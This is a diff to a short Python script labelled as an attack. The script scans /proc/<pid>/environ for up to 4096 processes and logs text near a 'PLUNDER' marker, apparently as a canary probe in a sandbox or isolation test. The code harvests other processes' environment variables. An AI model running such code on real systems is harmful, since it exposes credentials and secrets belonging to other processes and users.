@@ -1,9 +1,10 @@
 # attack: raw | reads the environment of every process it can see
-import os
-for process in range(1, 400):
+for process in range(1, 4096):
     try:
-        with open(f"/proc/{process}/environ", "rb") as file:
-            log("PLUNDER-ENVIRONMENT", file.read(100))
+        with open(f"/proc/{process}/environ") as file:
+            found = file.read()
     except OSError:
-        pass
-log(os.environ.get("PLUNDER_VARIABLE", "nothing"))
+        continue
+    place = found.find("PLUNDER")
+    if place >= 0:
+        log(found[place : place + 100])
